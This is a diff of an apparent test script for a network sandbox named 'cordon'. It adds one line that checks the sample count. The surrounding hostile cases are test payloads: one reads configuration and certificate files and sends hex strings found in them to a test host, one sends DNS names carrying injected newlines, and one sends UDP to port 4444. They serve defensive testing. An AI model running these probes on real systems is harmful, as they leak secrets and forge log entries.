@@ -115,4 +115,5 @@ hostile probes-for-the-probe "network GET http://four.test/.cordon by python3" '
 hostile reads-its-certificates "network GET http://four.test/nowhere by python3" 'import glob, re; text = "".join(open(f, errors="replace").read() for f in glob.glob("/etc/cordon/*") + glob.glob("/etc/ssl/certs/ca-certificates.crt")); [get("http://four.test/" + w) for w in {"nowhere"} | set(re.findall("[0-9a-f]{32}", text))]'
 hostile names-that-are-lines 'protocol a\x0aread /.test by python3' 'q = lambda n: b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x for x in n) + b"\0\0\1\0\1"; [attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q(n), ("11.22.33.53", 53))) for n in ([b"a/x", b"test"], [b"x @y", b"test"], [b"a\nread /", b"test"], [b"b:22", b"test"])]; import time; time.sleep(0.2)'
 hostile other-protocols "protocol UDP to 11.22.33.44:4444 by python3" 'attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("11.22.33.44", 4444)))'
+ok "there are ten samples" test "$SAMPLES" -ge 10
 done_testing
